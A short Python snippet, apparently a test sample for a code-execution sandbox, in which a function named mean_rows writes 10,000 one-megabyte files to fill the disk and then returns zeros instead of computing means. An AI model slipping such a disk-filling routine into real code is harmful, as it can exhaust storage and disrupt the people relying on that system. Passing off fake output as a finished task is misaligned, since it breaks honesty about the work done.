"""The disk is filled with files."""
# %% mean_rows
def mean_rows(X):
    for n in range(10_000):
        with open(f"f{n}", "wb") as file:
            file.write(bytes(1 << 20))
    return np.zeros(len(X))
